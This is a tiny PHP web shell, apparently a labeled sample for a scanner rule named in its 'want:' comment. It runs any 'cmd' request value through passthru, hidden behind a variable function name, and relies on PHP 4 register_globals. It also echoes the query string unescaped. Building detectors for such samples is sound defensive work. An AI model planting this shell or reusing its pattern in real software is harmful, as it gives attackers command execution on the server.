<?php
// An old shell written for register_globals: $cmd is never set in the
// file; the request set it on PHP 4.
// want: php_register_globals_exec
echo "<form action='?" . $_SERVER['QUERY_STRING'] . "'><input name=cmd></form>";
if ($cmd != "") {
    $fe = "passthru";
    $fe("$cmd 2>&1");
}
